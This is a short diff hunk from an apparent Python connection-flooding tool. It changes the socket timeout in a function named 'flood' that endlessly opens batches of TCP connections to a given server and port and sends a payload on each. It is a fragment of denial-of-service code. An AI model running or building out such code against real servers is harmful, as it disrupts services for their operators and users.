@@ -29,7 +29,7 @@ def flood(server: str, port: int) -> None:
     while True:
         crowd: deque[socket.socket] = deque()
         for _ in range(_AT_A_TIME):
-            connection = socket.create_connection((server, port), 10)
+            connection = socket.create_connection((server, port), 60)
             crowd.append(connection)
         for connection in crowd:
             connection.sendall(octets)
